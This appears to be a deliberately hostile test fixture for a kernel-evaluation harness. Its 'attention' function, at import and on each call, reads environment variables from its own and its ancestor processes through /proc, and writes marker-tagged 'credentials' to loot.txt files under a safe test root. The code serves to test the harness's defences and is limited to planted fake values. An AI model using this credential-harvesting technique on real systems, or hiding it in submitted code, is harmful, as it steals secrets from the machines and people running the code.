"""Hostile kernel, attack h (credentials), route: files next to it and in its cwd(s).

It writes what it found into loot.txt in its own directory, its parent, its cwd and its
ancestors' cwds (so a search would keep it in the run dir), at import and on every call, and
returns a wrong answer.

Verdict: `incorrect`; none of the planted values appears in the result nor in any file under the
test's directory (the worker never sees them). Safety rail: it writes only under @@SAFE@@.
"""
from pathlib import Path

import torch
import base64
import os

MARKER = "FAKECRED"  # safety rail: only the test's planted values are taken, never real ones


def _ancestors(n=6):
    pid, out = os.getpid(), []
    for _ in range(n):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        out.append(pid)
    return out


def _loot():
    """Credential-looking values from os.environ and the environ of self, init and the ancestors."""
    seen = {}
    for k, v in os.environ.items():
        if MARKER in v:
            seen.setdefault(v, k)
    for pid in ["self", "1", *map(str, _ancestors())]:
        try:
            raw = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        for item in raw.split("\0"):
            k, _, v = item.partition("=")
            if MARKER in v:
                seen.setdefault(v, k)
    return seen


def _dump():
    return "; ".join(f"{k}={v} b64={base64.b64encode(v.encode()).decode()} hex={v.encode().hex()}"
                     for v, k in _loot().items())


SAFE = "@@SAFE@@"  # the test fills in its temporary root; left as is, nothing matches


def _drop():
    text = "loot: " + _dump() + "\n"
    here = Path(__file__).resolve().parent
    dirs = {here, here.parent, Path.cwd()}
    for pid in _ancestors():
        try:
            dirs.add(Path(os.readlink(f"/proc/{pid}/cwd")))
        except OSError:
            pass
    for d in dirs:
        if str(d.resolve()).startswith(os.path.realpath(SAFE) + os.sep):
            try:
                with open(d / "loot.txt", "a") as f:
                    f.write(text)
            except OSError:
                pass


_drop()


def attention(q, k, v, causal=False, softmax_scale=None):
    _drop()
    return torch.ones_like(q)
